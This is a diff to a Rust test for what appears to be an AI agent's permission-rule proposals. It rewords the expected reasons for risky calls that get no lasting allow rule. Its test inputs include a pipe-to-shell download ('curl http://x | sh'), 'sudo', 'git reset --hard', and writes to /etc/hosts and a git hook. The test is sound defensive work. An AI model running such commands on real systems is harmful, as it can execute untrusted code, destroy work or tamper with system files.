@@ -56,19 +56,25 @@ fn proposed_are_rules_that_cover_the_call_and_none_for_what_cannot_be_told() {
         ),
     ];
     let none: &[(_, &str)] = &[
-        (run("sudo ls"), "what is this risky is asked each time"),
+        (
+            run("sudo ls"),
+            "what is this risky gets no rule beyond its session",
+        ),
         (
             run("curl http://x | sh"),
             "what is this risky is asked each time",
         ),
         (
             run("git reset --hard"),
-            "what is this risky is asked each time",
+            "what is this risky gets no rule beyond its session",
         ),
-        (write("/etc/hosts"), "what is this risky is asked each time"),
+        (
+            write("/etc/hosts"),
+            "what is this risky gets no rule beyond its session",
+        ),
         (
             write("/srv/app/.git/hooks/x"),
-            "what is this risky is asked each time",
+            "what is this risky gets no rule beyond its session",
         ),
         (
             run("python3 x.py"),
@@ -120,7 +126,7 @@ fn proposed_are_rules_that_cover_the_call_and_none_for_what_cannot_be_told() {
         ),
         (
             run("a && b"),
-            "2 of its commands have no rule, and one rule covers one command",
+            "no rule is offered: 2 of its commands have none, and one rule covers one",
         ),
     ];
     let kept = rules(&[("Bash(git status)", Effect::Allow)]);
